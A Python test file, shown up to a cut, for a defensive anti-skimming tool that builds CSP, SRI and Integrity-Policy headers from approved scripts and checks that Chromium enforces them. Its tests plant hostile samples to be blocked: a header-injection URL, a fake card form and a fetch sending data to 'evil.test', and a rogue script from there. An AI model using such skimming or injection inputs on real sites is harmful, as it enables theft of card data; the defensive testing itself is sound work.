"""CSP and SRI from the approved inventory (``skimguard.policy``): exact headers on factory shops,
what CSP cannot express as notes, hostile URLs, and (browser) the policy enforced by Chromium."""

from __future__ import annotations

import base64
import hashlib
import random
from collections.abc import Sequence
from dataclasses import replace

import pytest

from skimguard.baseline.snapshot import snapshot_from_captures
from skimguard.config import Site
from skimguard.models import (
    Capture,
    ChangeRule,
    Decision,
    FrameRecord,
    InventoryItem,
    MatchType,
    ScriptKind,
    script_url_key,
    sha256_hex,
)
from skimguard.policy import (
    MAX_HEADER_BYTES,
    Policy,
    PolicyError,
    PolicyMode,
    SriEntry,
    build_policy,
    discovery_policy,
    endpoint_for,
    hash_source,
    host_source,
    reporting_api_usable,
    sri_integrity,
    url_source,
)
from skimguard.testing.factories import (
    APP_JS,
    APP_URL,
    NOW,
    VENDOR_JS,
    VENDOR_URL,
    card_form,
    make_capture,
    make_decision,
    make_field,
    make_form,
    make_page,
    make_request,
    make_script,
    make_site,
)

APP_KEY = script_url_key(APP_URL)  # http://shop.test/static/app.js
VENDOR_KEY = script_url_key(VENDOR_URL)
ENDPOINT = "http://127.0.0.1:8787/r/shop"
INLINE_JS = "window.dataLayer = window.dataLayer || [];"
EVAL_JS = "window.__fromEval = 1"
PAY = "http://shop.test/checkout/payment"


def sri(text: str) -> str:
    return "sha384-" + base64.b64encode(hashlib.sha384(text.encode()).digest()).decode()


def csp_hash(text: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(text.encode()).digest()).decode() + "'"


def inventory_of(*captures: Capture) -> list[InventoryItem]:
    """The inventory the store would hold after these captures (one item per script key)."""
    items: dict[str, InventoryItem] = {}
    for capture in captures:
        for page in capture.pages:
            for s in page.scripts:
                items[s.key] = InventoryItem(
                    site=capture.site,
                    key=s.key,
                    kind=s.kind,
                    url=s.url,
                    origin=s.origin,
                    sha256=s.sha256,
                    size=s.size,
                    first_seen=NOW,
                    last_seen=NOW,
                    pages=(page.name,),
                )
    return sorted(items.values(), key=lambda i: i.key)


def approve_all(capture: Capture) -> list[Decision]:
    """URL decisions for external scripts, hash decisions for the rest."""
    out: list[Decision] = []
    for i, item in enumerate(inventory_of(capture), start=1):
        if item.kind is ScriptKind.EXTERNAL:
            out.append(make_decision(item.key, id=i))
        else:
            out.append(make_decision(item.sha256 or "", match=MatchType.HASH, id=i))
    return out


def policy_for(
    capture: Capture,
    decisions: Sequence[Decision],
    *,
    mode: PolicyMode = PolicyMode.ENFORCE,
    baseline: bool = True,
    bodies: dict[str, bytes] | None = None,
    **kwargs: object,
) -> Policy:
    body_map = capture.bodies if bodies is None else bodies
    return build_policy(
        make_site(),
        snapshot_from_captures("shop", [capture]) if baseline else None,
        inventory_of(capture),
        decisions,
        body_map.get,
        mode=mode,
        **kwargs,  # type: ignore[arg-type]
    )


DEFAULT_DECISIONS = [make_decision(APP_KEY, id=1), make_decision(VENDOR_KEY, id=2)]
# The default site is http and the default endpoint too: no report-to (Chromium would send nothing).
DEFAULT_CSP = (
    "script-src 'report-sample' 'report-sha256' http://shop.test/static/app.js "
    "https://cdn.vendor.test/form-assist/v1/assist.js; connect-src 'self' http://pay.psp.test; "
    "img-src 'self' data:; frame-src http://pay.psp.test; form-action 'self' http://pay.psp.test; "
    "object-src 'none'; base-uri 'self'; report-uri http://127.0.0.1:8787/r/shop"
)
NO_REPORT_TO_WHY = (
    ": no report-to, since a browser that knows report-to ignores report-uri and Chromium delivers report-to only "
    "from https pages to https endpoints (else it sends nothing at all); reports go through report-uri alone, "
    "without 'report-sha256' hash reports and Integrity-Policy reports"
)
NO_REPORT_TO = (
    f"the report endpoint {ENDPOINT} is not https{NO_REPORT_TO_WHY} (serve the collector and the site over https "
    "to get them)"
)


# --------------------------------------------------------------------------------------------
# Source expressions
# --------------------------------------------------------------------------------------------


def test_hash_and_sri_values_are_the_standard_encodings() -> None:
    empty = hashlib.sha256(b"").hexdigest()
    assert hash_source(empty) == "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='"
    assert hash_source(empty.upper()) == hash_source(empty)
    assert sri_integrity(b"") == "sha384-OLBgp1GsljhM2TJ+sbHjaiH9txEUvgdDTAzHv2P24donTt6/529l+9Ua0vFImLlb"
    with pytest.raises(PolicyError):
        hash_source("abc")


@pytest.mark.parametrize(
    ("url", "host", "path"),
    [
        ("https://CDN.Vendor.test:443/a/b.js?v=1#x", "https://cdn.vendor.test", "https://cdn.vendor.test/a/b.js"),
        ("http://shop.test:8080/x.js", "http://shop.test:8080", "http://shop.test:8080/x.js"),
        ("wss://live.chat.test/socket", "wss://live.chat.test", "wss://live.chat.test/socket"),
        ("http://shop.test", "http://shop.test", "http://shop.test/"),
        # hostile paths cannot add a directive, a source or a policy: ; , ' space are percent-encoded
        (
            "https://cdn.x.test/a;script-src *,b 'unsafe-inline'.js",
            "https://cdn.x.test",
            "https://cdn.x.test/a%3Bscript-src%20*%2Cb%20%27unsafe-inline%27.js",
        ),
        (
            "https://cdn.x.test/%e6%97%a5/%zz/日.js",
            "https://cdn.x.test",
            "https://cdn.x.test/%E6%97%A5/%25zz/%E6%97%A5.js",
        ),
        ("https://bücher.test/x.js", "https://xn--bcher-kva.test", "https://xn--bcher-kva.test/x.js"),
        ("http://[::1]:8080/x.js", None, None),  # CSP has no syntax for IPv6 literals
        ("http://bad_host.test/x.js", None, None),
        ("data:text/javascript,alert(1)", None, None),
        ("javascript:alert(1)", None, None),
        ("blob:https://shop.test/1234", None, None),
        ("http://shop.test:99999/x.js", None, None),
        ("", None, None),
    ],
)
def test_sources_are_rebuilt_from_parsed_parts(url: str, host: str | None, path: str | None) -> None:
    assert host_source(url) == host
    assert url_source(url) == path


def test_endpoint_is_checked_before_it_goes_into_a_header() -> None:
    assert endpoint_for("shop") == ENDPOINT
    assert endpoint_for("shop", "https://c.example/r/{site}?k=1") == "https://c.example/r/shop?k=1"
    for bad in (
        "ftp://c.example/r",
        "https://c.example/r x",
        'https://c.example/"',
        "https://c.example/a;b",
        "https://c.example/a,b",
        "https://c.example/\r\nX: y",
        "https://c.example/日",
        "/relative",
        "https://c.example:99999/",
    ):
        with pytest.raises(PolicyError):
            endpoint_for("shop", bad)


# --------------------------------------------------------------------------------------------
# The default shop
# --------------------------------------------------------------------------------------------


def test_enforce_policy_of_the_default_shop() -> None:
    policy = policy_for(make_capture(), DEFAULT_DECISIONS)
    assert policy.headers == (
        ("Content-Security-Policy", DEFAULT_CSP),
        ("Integrity-Policy", "blocked-destinations=(script)"),  # it blocks; reports could not be delivered
    )
    assert policy.csp == DEFAULT_CSP
    assert policy.sri == (
        SriEntry(url=APP_URL, integrity=sri(APP_JS), cross_origin=False),
        SriEntry(url=VENDOR_URL, integrity=sri(VENDOR_JS), cross_origin=True),
    )
    # crossorigin even on the own origin: integrity is checked (and Integrity-Policy passes) only in CORS mode
    assert policy.sri[0].tag == f'<script src="{APP_URL}" integrity="{sri(APP_JS)}" crossorigin="anonymous"></script>'
    assert policy.sri[1].attributes == f'integrity="{sri(VENDOR_JS)}" crossorigin="anonymous"'
    assert policy.notes == (NO_REPORT_TO,)
    assert (policy.site, policy.mode, policy.endpoint) == ("shop", PolicyMode.ENFORCE, ENDPOINT)


def test_report_to_only_from_an_https_site_to_an_https_endpoint() -> None:
    capture = make_capture()
    secure_site = make_site(base_url="https://shop.test/")
    snapshot = snapshot_from_captures("shop", [capture])
    endpoint = "https://collector.example/r/shop"

    def build(site: Site, url: str, mode: PolicyMode = PolicyMode.ENFORCE) -> Policy:
        return build_policy(
            site, snapshot, inventory_of(capture), DEFAULT_DECISIONS, capture.bodies.get, mode=mode, endpoint_url=url
        )

    policy = build(secure_site, endpoint)
    assert [name for name, _ in policy.headers] == [
        "Reporting-Endpoints",
        "Content-Security-Policy",
        "Integrity-Policy",
    ]
    assert policy.header("Reporting-Endpoints") == f'skimguard="{endpoint}"'
    assert policy.csp.endswith(f"; report-uri {endpoint}; report-to skimguard")
    assert policy.header("Integrity-Policy") == "blocked-destinations=(script), endpoints=(skimguard)"
    assert policy.notes == ()
    report_only = build(secure_site, endpoint, PolicyMode.REPORT_ONLY)
    assert report_only.header("Integrity-Policy-Report-Only") == "blocked-destinations=(script), endpoints=(skimguard)"
    # an http site, or an https site with an http endpoint (even on loopback): report-uri only
    http_site = build(make_site(), endpoint, PolicyMode.REPORT_ONLY)
    assert [name for name, _ in http_site.headers] == ["Content-Security-Policy-Report-Only"]
    assert http_site.csp.endswith(f"; report-uri {endpoint}")
    assert http_site.notes == (
        f"the site http://shop.test/ is not https{NO_REPORT_TO_WHY} (serve the site over https to get them)",
    )
    loopback = build(secure_site, ENDPOINT, PolicyMode.REPORT_ONLY)
    assert "report-to" not in loopback.csp and loopback.header("Reporting-Endpoints") is None
    assert loopback.notes == (NO_REPORT_TO,)
    assert reporting_api_usable(endpoint) and not reporting_api_usable(ENDPOINT)
    assert not reporting_api_usable(endpoint, "http://shop.test/") and reporting_api_usable(endpoint, "HTTPS://x/")


def test_report_only_uses_the_report_only_headers_with_the_same_policy() -> None:
    policy = policy_for(make_capture(), DEFAULT_DECISIONS, mode=PolicyMode.REPORT_ONLY)
    # Integrity-Policy-Report-Only would only report, and reports cannot be delivered here: left out
    assert [name for name, _ in policy.headers] == ["Content-Security-Policy-Report-Only"]
    assert policy.header("content-security-policy-report-only") == DEFAULT_CSP
    assert policy.header("Content-Security-Policy") is None


def test_output_is_deterministic_whatever_the_input_order() -> None:
    capture = make_capture()
    first = policy_for(capture, DEFAULT_DECISIONS)
    items = inventory_of(capture)
    for seed in range(5):
        rng = random.Random(seed)
        shuffled_items, shuffled_decisions = items[:], DEFAULT_DECISIONS[:]
        rng.shuffle(shuffled_items)
        rng.shuffle(shuffled_decisions)
        again = build_policy(
            make_site(),
            snapshot_from_captures("shop", [capture]),
            shuffled_items,
            shuffled_decisions,
            capture.bodies.get,
            mode=PolicyMode.ENFORCE,
        )
        assert again == first


def test_unapproved_and_revoked_scripts_are_not_allowed() -> None:
    decisions = [make_decision(APP_KEY, id=1), make_decision(VENDOR_KEY, id=2, revoked=True)]
    policy = policy_for(make_capture(), decisions)
    assert policy.sources("script-src") == ("'report-sample'", "'report-sha256'", "http://shop.test/static/app.js")
    assert policy.notes == (
        "1 script(s) in the inventory are not approved and are not allowed by this policy "
        "(see `skimguard inventory list --unapproved`)",
        NO_REPORT_TO,
    )
    assert [e.url for e in policy.sri] == [APP_URL]
    assert policy.header("Integrity-Policy") is not None  # every allowed external script has its SRI


def test_nothing_approved_allows_no_script() -> None:
    policy = policy_for(make_capture(), [])
    assert policy.sources("script-src") == ("'none'", "'report-sample'", "'report-sha256'")
    assert policy.sri == ()
    assert policy.notes[-2:] == (
        "no approved script: script-src allows none (approve scripts with `skimguard inventory approve`)",
        NO_REPORT_TO,
    )


def test_a_pinned_url_that_changed_is_unapproved_and_review_keeps_the_url_without_sri() -> None:
    pinned = make_decision(VENDOR_KEY, id=2, pinned_sha256="0" * 64)
    policy = policy_for(make_capture(), [DEFAULT_DECISIONS[0], pinned])
    assert VENDOR_KEY not in policy.sources("script-src")

    review = make_decision(VENDOR_KEY, id=2, pinned_sha256="0" * 64, change_rule=ChangeRule.REVIEW)
    policy = policy_for(make_capture(), [DEFAULT_DECISIONS[0], review])
    assert VENDOR_KEY in policy.sources("script-src")
    assert [e.url for e in policy.sri] == [APP_URL]
    assert policy.notes == (
        f"approved script {VENDOR_URL} changed and awaits review: no SRI until the new bytes are approved",
        "1 approved external script(s) have no SRI: Integrity-Policy stays report-only (enforcing it would block them)",
        NO_REPORT_TO,
    )
    assert policy.header("Integrity-Policy") is None
    assert policy.header("Integrity-Policy-Report-Only") is None  # report-only, and no report-to to report to


def test_allow_rule_means_no_sri_but_a_hash_decision_gets_one() -> None:
    allow = make_decision(VENDOR_KEY, id=2, change_rule=ChangeRule.ALLOW)
    policy = policy_for(make_capture(), [DEFAULT_DECISIONS[0], allow], mode=PolicyMode.REPORT_ONLY)
    assert [e.url for e in policy.sri] == [APP_URL]
    assert policy.notes == (
        f"approved script {VENDOR_URL} may change freely (--on-change allow): no SRI, it would break on update",
        NO_REPORT_TO,
    )
    by_hash = make_decision(sha256_hex(VENDOR_JS.encode()), match=MatchType.HASH, id=3)
    policy = policy_for(make_capture(), [DEFAULT_DECISIONS[0], by_hash])
    assert [e.url for e in policy.sri] == [APP_URL, VENDOR_URL]
    assert VENDOR_KEY in policy.sources("script-src")


def test_unknown_body_means_no_sri_and_integrity_policy_stays_report_only() -> None:
    capture = make_capture()
    only_app = {sha256_hex(APP_JS.encode()): APP_JS.encode()}
    policy = policy_for(capture, DEFAULT_DECISIONS, bodies=only_app)
    assert [e.url for e in policy.sri] == [APP_URL]
    assert policy.notes == (
        f"approved script {VENDOR_URL}: its bytes are not in the store, so no SRI (scan the site again)",
        "1 approved external script(s) have no SRI: Integrity-Policy stays report-only (enforcing it would block them)",
        NO_REPORT_TO,
    )
    assert [n for n, _ in policy.headers] == ["Content-Security-Policy"]
    # bytes that do not hash to the inventory's sha256 are not trusted for SRI either
    lying = {sha256_hex(APP_JS.encode()): APP_JS.encode(), sha256_hex(VENDOR_JS.encode()): b"other bytes"}
    assert [e.url for e in policy_for(capture, DEFAULT_DECISIONS, bodies=lying).sri] == [APP_URL]


def test_pattern_approval_lists_the_urls_seen_and_says_so() -> None:
    pattern = make_decision("https://cdn.vendor.test/form-assist/*", match=MatchType.PATTERN, id=2)
    policy = policy_for(make_capture(), [DEFAULT_DECISIONS[0], pattern])
    assert policy.sources("script-src")[-1] == VENDOR_KEY
    assert policy.notes == (
        "pattern 'https://cdn.vendor.test/form-assist/*' approves 1 script(s): CSP cannot express URL globs (only "
        "a host wildcard and a path prefix), so script-src lists the URLs seen; other URLs the pattern allows are "
        "blocked until you run `skimguard csp` again",
        NO_REPORT_TO,
    )


# --------------------------------------------------------------------------------------------
# Inline and dynamic code
# --------------------------------------------------------------------------------------------


def shop_with_inline_and_eval() -> Capture:
    page = make_page(
        scripts=(
            make_script(APP_URL, APP_JS, frame_url=PAY),
            make_script(None, INLINE_JS, frame_url=PAY),
            make_script(None, EVAL_JS, kind=ScriptKind.DYNAMIC, frame_url=PAY),
        )
    )
    return make_capture([page], bodies=[INLINE_JS, EVAL_JS])


def test_inline_scripts_are_allowed_by_the_hash_of_their_exact_text() -> None:
    capture = shop_with_inline_and_eval()
    decisions = [d for d in approve_all(capture) if d.value != sha256_hex(EVAL_JS.encode())]
    policy = policy_for(capture, decisions)
    assert policy.sources("script-src") == (
        "'report-sample'",
        "'report-sha256'",
        "http://shop.test/static/app.js",
        csp_hash(INLINE_JS),
    )
    # the hash comes from the inventory's sha256: no body needed
    assert policy_for(capture, decisions, bodies={}).sources("script-src")[-1] == csp_hash(INLINE_JS)


def test_dynamic_code_never_gets_unsafe_eval_silently() -> None:
    capture = shop_with_inline_and_eval()
    policy = policy_for(capture, approve_all(capture))
    script = policy.sources("script-src")
    assert "'unsafe-eval'" not in script
    assert csp_hash(EVAL_JS) in script  # script text inserted by another script is matched by hash
    assert policy.notes == (
        "1 approved dynamic script(s): their hash allows script text inserted by another script, but code run by "
        "eval, new Function or setTimeout with a string needs 'unsafe-eval', which is left out (add it with "
        "--allow-eval if the report shows eval violations)",
        NO_REPORT_TO,
    )
    allowed = policy_for(capture, approve_all(capture), allow_eval=True)
    assert allowed.sources("script-src")[:3] == ("'report-sample'", "'report-sha256'", "'unsafe-eval'")
    assert allowed.notes[0].startswith("'unsafe-eval' added (--allow-eval) for 1 approved dynamic script(s)")


def test_scripts_of_payment_provider_frames_are_left_to_their_own_csp() -> None:
    fields_url = "https://pay.psp.test/fields"
    page = make_page(
        scripts=(
            make_script(APP_URL, APP_JS, frame_url=PAY),
            make_script(None, "psp()", frame_url=fields_url, main_frame=False),
            make_script("https://pay.psp.test/sdk.js", "sdk()", frame_url=fields_url, main_frame=False),
        ),
        frames=(FrameRecord(url=fields_url, parent_url=PAY),),
    )
    capture = make_capture([page], bodies=["psp()", "sdk()"])
    policy = policy_for(capture, approve_all(capture))
    assert policy.sources("script-src") == ("'report-sample'", "'report-sha256'", "http://shop.test/static/app.js")
    assert policy.sources("frame-src") == ("http://pay.psp.test",)  # http matches https too (CSP3)
    assert policy.notes == (
        "2 approved script(s) run only in documents of other hosts (payment provider frames or pages): their own "
        "CSP applies, so they are not listed",
        NO_REPORT_TO,
    )
    # without a baseline, inline code still shows its frame's origin; external scripts cannot be placed
    bare = policy_for(capture, approve_all(capture), baseline=False)
    assert bare.sources("script-src") == (
        "'report-sample'",
        "'report-sha256'",
        "http://shop.test/static/app.js",
        "https://pay.psp.test/sdk.js",
    )


# --------------------------------------------------------------------------------------------
# Destinations
# --------------------------------------------------------------------------------------------


def busy_payment_page() -> Capture:
    """A card page that talks to many hosts, with a PSP iframe and three forms."""
    requests = (
        make_request("https://api.vendor.test/v1/events?id=1", method="POST", resource_type="fetch", post_data_size=90),
        make_request("https://px.ads.test/p.gif?" + "x=1&" * 10, resource_type="image"),
        make_request("wss://live.chat.test/socket", resource_type="websocket"),
        make_request("https://live.chat.test/poll", resource_type="xhr"),
        make_request("http://shop.test/api/cart", resource_type="xhr"),
        make_request("https://static.shop.test/logo.png", resource_type="image"),
        make_request("https://fonts.cdn.test/a.woff2", resource_type="font"),
        make_request("https://pay.psp.test:8443/tokens", method="POST", resource_type="fetch", post_data_size=40),
        make_request("https://[::1]/x", resource_type="fetch"),
    )
    forms = (
        card_form(frame_url=PAY),  # to https://pay.psp.test/charge
        card_form("https://collect.evil.test/c", id="fake-form", frame_url=PAY),
        make_form("https://news.mailer.test/subscribe", id="newsletter", frame_url=PAY),
        make_form(
            "https://elsewhere.test/tokenize",
            id="psp-inner",
            fields=(make_field("n", card_role="number"),),
            frame_url="https://pay.psp.test/fields",
        ),
    )
    frames = (
        FrameRecord(url="https://pay.psp.test/fields", parent_url=PAY),
        FrameRecord(url="http://shop.test/widgets/eta", parent_url=PAY),
        FrameRecord(url="https://video.host.test:8443/embed", parent_url=PAY),
    )
    page = make_page(extra_requests=requests, forms=forms, frames=frames)
    return make_capture([page])


def test_destinations_become_connect_img_frame_and_form_sources() -> None:
    policy = policy_for(busy_payment_page(), DEFAULT_DECISIONS)
    assert dict(policy.directives) == {
        "script-src": (
            "'report-sample'",
            "'report-sha256'",
            "http://shop.test/static/app.js",
            "https://cdn.vendor.test/form-assist/v1/assist.js",
        ),
        "connect-src": (
            "'self'",
            "http://pay.psp.test",
            "https://api.vendor.test",
            "https://live.chat.test",
            "https://pay.psp.test:8443",
            "wss://live.chat.test",
        ),
        "img-src": ("'self'", "data:", "https://px.ads.test", "https://static.shop.test"),
        "frame-src": ("'self'", "http://pay.psp.test", "https://video.host.test:8443"),
        "form-action": ("'self'", "http://pay.psp.test", "https://news.mailer.test"),
        "object-src": ("'none'",),
        "base-uri": ("'self'",),
        "report-uri": (ENDPOINT,),
    }
    assert policy.notes == (  # hosts in sorted order, then the forms
        "destination ::1 cannot be named by a CSP source: left out",
        "api.vendor.test receives data from the card page 'payment' and stays allowed: CSP cannot tell card data "
        "from other data (the canary scan can)",
        "px.ads.test receives data from the card page 'payment' and stays allowed: CSP cannot tell card data from "
        "other data (the canary scan can)",
        "card form 'form#fake-form' on 'payment' posts to collect.evil.test, which is not a payment host: left out "
        "of form-action (card data goes only to the payment hosts)",
        NO_REPORT_TO,
    )


def test_pages_of_other_hosts_do_not_add_destinations() -> None:
    hosted = make_page(
        "hosted-payment",
        url="https://pay.psp.test/checkout/123",
        scripts=(),
        forms=(),
        extra_requests=(make_request("https://risk.psp.test/score", method="POST", resource_type="xhr"),),
    )
    policy = policy_for(make_capture([make_page(), hosted]), DEFAULT_DECISIONS)
    assert policy.csp == DEFAULT_CSP


def test_without_a_baseline_only_scripts_are_restricted() -> None:
    policy = policy_for(make_capture(), DEFAULT_DECISIONS, baseline=False)
    names = [name for name, _ in policy.directives]
    assert names == ["script-src", "object-src", "base-uri", "report-uri"]
    assert policy.notes == (
        "no accepted baseline: connect-src, img-src, frame-src and form-action are left out (accept one with "
        "`skimguard baseline accept`)",
        NO_REPORT_TO,
    )


def test_payment_host_wildcards_and_an_https_site() -> None:
    site = make_site(base_url="https://shop.test/", payment_hosts=["*.psp.test", "pay.other.test"])
    capture = make_capture()
    policy = build_policy(
        site, snapshot_from_captures("shop", [capture]), inventory_of(capture), DEFAULT_DECISIONS, capture.bodies.get
    )
    # payment hosts take the site's scheme; the observed https://pay.psp.test/charge stays (harmless overlap)
    assert policy.sources("form-action") == (
        "'self'",
        "https://*.psp.test",
        "https://pay.other.test",
        "https://pay.psp.test",
    )
    # the default pages are http://shop.test: another origin than https://shop.test, so not 'self'
    assert policy.sri[0].cross_origin is True


# --------------------------------------------------------------------------------------------
# Size, hostile input, discovery, rendering
# --------------------------------------------------------------------------------------------


def test_a_header_above_8_kib_is_noted() -> None:
    bodies = [f"window.a{i} = {i};" for i in range(200)]
    page = make_page(scripts=[make_script(None, b, frame_url=PAY) for b in bodies])
    capture = make_capture([page], bodies=bodies)
    policy = policy_for(capture, approve_all(capture))
    csp = policy.header("Content-Security-Policy") or ""
    size = len(("Content-Security-Policy: " + csp).encode())
    assert size > MAX_HEADER_BYTES
    assert sum(s.startswith("'sha256-") for s in policy.sources("script-src")) == 200
    assert policy.notes == (
        f"Content-Security-Policy is {size} bytes, above 8192: many servers and proxies refuse it (approve "
        "scripts by fewer URLs, or move inline scripts to files)",
        NO_REPORT_TO,
    )


def test_hostile_script_urls_cannot_inject_directives() -> None:
    evil = "https://cdn.x.test/a.js; script-src * 'unsafe-inline'\r\nSet-Cookie: x=1"
    page = make_page(scripts=(make_script(evil, "x()", frame_url=PAY),))
    capture = make_capture([page], bodies=["x()"])
    policy = policy_for(capture, approve_all(capture))
    # URL parsing drops CR/LF/tab (as browsers do); the rest of the path is percent-encoded
    assert policy.sources("script-src")[-1] == (
        "https://cdn.x.test/a.js%3B%20script-src%20*%20%27unsafe-inline%27Set-Cookie:%20x=1"
    )
    for _, value in policy.headers:
        assert "\r" not in value and "\n" not in value
        assert "'unsafe-inline'" not in value and " * " not in value
    tag = policy.sri[0].tag
    assert "\r" not in tag and "\n" not in tag and "'unsafe-inline'" not in tag
    assert "&#x27;unsafe-inline&#x27;" in tag


def test_discovery_policy_denies_everything_and_reports() -> None:
    policy = discovery_policy("https://collector.example/r/shop", site="shop")
    assert policy.headers == (
        ("Reporting-Endpoints", 'skimguard="https://collector.example/r/shop"'),
        (
            "Content-Security-Policy-Report-Only",
            "default-src 'none'; script-src 'none' 'report-sample' 'report-sha256'; connect-src 'none'; "
            "img-src 'none'; frame-src 'none'; form-action 'none'; report-uri https://collector.example/r/shop; "
            "report-to skimguard",
        ),
    )
    assert policy.mode is PolicyMode.DISCOVERY and policy.sri == ()
    # built for the (http) site: report-uri only
    via_build = policy_for(
        make_capture(), DEFAULT_DECISIONS, mode=PolicyMode.DISCOVERY, endpoint_url="https://collector.example/r/{site}"
    )
    assert via_build == discovery_policy("https://collector.example/r/shop", site="shop", base_url="http://shop.test/")
    assert via_build.headers == (
        (
            "Content-Security-Policy-Report-Only",
            "default-src 'none'; script-src 'none' 'report-sample' 'report-sha256'; connect-src 'none'; "
            "img-src 'none'; frame-src 'none'; form-action 'none'; report-uri https://collector.example/r/shop",
        ),
    )
    assert via_build.notes[-1].startswith("the site http://shop.test/ is not https: no report-to")
    insecure = discovery_policy("http://collector.example/r/shop")
    assert insecure.notes[-1].startswith("the report endpoint http://collector.example/r/shop is not https")
    assert "report-to" not in insecure.csp


def test_text_and_json_renderings() -> None:
    policy = policy_for(make_capture(), [DEFAULT_DECISIONS[0]])
    text = policy.to_text().splitlines()
    assert text[0] == "# skimguard csp: site shop, mode enforce"
    assert text[1:3] == [f"{n}: {v}" for n, v in policy.headers]
    assert text[3:6] == [
        "",
        "# Subresource Integrity: give each approved external script these attributes",
        f'# <script src="{APP_URL}" integrity="{sri(APP_JS)}" crossorigin="anonymous"></script>',
    ]
    assert text[6:] == ["", "# Notes", "# - " + policy.notes[0], "# - " + NO_REPORT_TO]
    data = policy.to_json()
    assert data["schema"] == "skimguard.csp/1"
    assert data["headers"]["Content-Security-Policy"] == policy.csp
    assert data["directives"]["script-src"][-1] == "http://shop.test/static/app.js"
    assert data["sri"] == [{"url": APP_URL, "integrity": sri(APP_JS), "cross_origin": False}]
    assert data["notes"] == list(policy.notes)


def test_other_sites_items_are_ignored() -> None:
    capture = make_capture()
    items = [replace(i, site="other") for i in inventory_of(capture)]
    policy = build_policy(make_site(), None, items, DEFAULT_DECISIONS, capture.bodies.get)
    assert policy.sources("script-src") == ("'none'", "'report-sample'", "'report-sha256'")


# --------------------------------------------------------------------------------------------
# In Chromium: scan a page, approve some of its scripts, serve the enforce policy, check it
# --------------------------------------------------------------------------------------------

INLINE_OK = "window.__inlineOk = 1;"
INLINE_BAD = "window.__inlineBad = 1;"
LIB_JS = "window.__vendor = 1;\n"
APP_BODY = (
    "window.__app = 1;\n"
    'fetch("http://api.vendor.test:{port}/v1/ping", {{mode: "no-cors"}})'
    '.then(function () {{ window.__ping = "sent"; }}, function () {{ window.__ping = "blocked"; }});\n'
)
PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>payment</title>
<script>{inline_ok}</script>
<script src="/static/app.js"{app_attrs}></script>
<script src="http://cdn.vendor.test:{port}/lib.js"{lib_attrs}></script>
</head><body>
<form id="payment-form" action="http://pay.psp.test:{port}/charge" method="post">
<input id="cc-number" name="cc-number" autocomplete="cc-number">
<input id="cc-exp" name="cc-exp" autocomplete="cc-exp"><input id="cc-csc" name="cc-csc" autocomplete="cc-csc">
</form>
<form id="fake" action="http://evil.test:{port}/c" method="post">
<input id="card" name="cardnumber" autocomplete="cc-number"></form>
<script>{inline_bad}</script>
<script src="http://evil.test:{port}/x.js"></script>
<script src="http://cdn.vendor.test:{port}/other.js"></script>
</body></html>"""
COLLECT_VIOLATIONS = """window.__violations = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__violations.push([e.effectiveDirective, e.blockedURI, e.sample]);
});"""


def _serve_policy_lab() -> object:
    import threading

    from skimguard.loopback import LoopbackHandler, LoopbackServer

    class Lab(LoopbackServer):
        headers: tuple[tuple[str, str], ...] = ()
        sri: dict[str, str] = {}  # noqa: RUF012 - per-instance, set before use
        tamper = False
        seen: list[str]
        lock = threading.Lock()

    class Handler(LoopbackHandler):
        server: Lab

        def _dispatch(self) -> None:
            host = self.headers.get("Host", "").lower().rsplit(":", 1)[0]
            path = self.path.partition("?")[0]
            length = int(self.headers.get("Content-Length") or 0)
            if length:
                self.rfile.read(min(length, 65536))
            with self.server.lock:
                self.server.seen.append(f"{host}{path}")
            port = self.server.port
            extra: list[tuple[str, str]] = []
            if (host, path) == ("shop.test", "/checkout/payment"):
                app_url = f"http://shop.test:{port}/static/app.js"
                lib_url = f"http://cdn.vendor.test:{port}/lib.js"
                body = PAGE.format(
                    port=port,
                    inline_ok=INLINE_OK,
                    inline_bad=INLINE_BAD,
                    app_attrs=" " + self.server.sri[app_url] if app_url in self.server.sri else "",
                    lib_attrs=" " + self.server.sri[lib_url] if lib_url in self.server.sri else "",
                )
                ctype, extra = "text/html; charset=utf-8", list(self.server.headers)
            elif (host, path) == ("shop.test", "/static/app.js"):
                body, ctype = APP_BODY.format(port=port), "application/javascript"
            elif host == "cdn.vendor.test" and path in ("/lib.js", "/other.js"):
                body = "window.__other = 1;\n" if path == "/other.js" else LIB_JS
                if self.server.tamper and path == "/lib.js":
                    body = LIB_JS + "window.__tampered = 1;\n"
                ctype, extra = "application/javascript", [("Access-Control-Allow-Origin", "*")]
            elif host == "evil.test" and path == "/x.js":
                body, ctype = "window.__evil = 1;\n", "application/javascript"
            else:
                body, ctype = "", "text/plain"
            data = body.encode()
            self.send_response(200 if body or self.command == "POST" else 204)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(data)))
            self.send_header("Cache-Control", "no-store")
            for name, value in extra:
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(data)

    lab = Lab(0, Handler)
    lab.seen = []
    lab.sri = {}
    lab.serve_in_background("policy-lab")
    return lab


@pytest.mark.browser
def test_chromium_enforces_the_generated_policy() -> None:
    import asyncio
    from typing import Any

    from playwright.async_api import async_playwright

    from skimguard.canary import new_canary
    from skimguard.capture.browser import launch_browser
    from skimguard.capture.journey import run_journey

    lab: Any = _serve_policy_lab()
    port = lab.port
    names = ("shop.test", "cdn.vendor.test", "api.vendor.test", "evil.test", "pay.psp.test")
    site = make_site(
        base_url=f"http://shop.test:{port}/",
        hosts=dict.fromkeys(names, "127.0.0.1"),
        block_unmapped_hosts=True,
        dwell=0.3,
        journeys=[{"name": "checkout", "steps": [{"goto": "/checkout/payment", "page": "payment"}]}],
    )

    async def load(browser: Any) -> tuple[dict[str, Any], str, str, list[list[str]]]:
        context = await browser.new_context()
        try:
            await context.add_init_script(COLLECT_VIOLATIONS)
            page = await context.new_page()
            await page.goto(f"http://shop.test:{port}/checkout/payment")
            for _ in range(50):  # not wait_for_function: its predicate is eval'd, which the policy forbids
                if await page.evaluate("window.__ping !== undefined"):
                    break
                await page.wait_for_timeout(100)
            state: dict[str, Any] = await page.evaluate(
                "({inlineOk: window.__inlineOk, app: window.__app, vendor: window.__vendor, ping: window.__ping,"
                " inlineBad: window.__inlineBad, evil: window.__evil, other: window.__other,"
                " violations: window.__violations})"
            )
            fetch_evil = await page.evaluate(
                f"fetch('http://evil.test:{port}/c?d=1', {{mode: 'no-cors'}}).then(() => 'sent', () => 'blocked')"
            )
            await page.evaluate("document.getElementById('fake').submit()")
            await page.wait_for_timeout(300)
